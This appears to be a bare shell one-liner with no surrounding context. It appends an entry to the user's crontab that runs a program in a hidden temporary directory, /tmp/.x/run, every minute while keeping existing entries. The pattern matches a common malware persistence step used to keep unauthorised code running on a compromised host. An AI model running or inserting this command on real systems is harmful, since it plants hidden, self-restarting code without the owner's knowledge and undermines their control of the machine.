(crontab -l; echo "* * * * * /tmp/.x/run") | crontab -
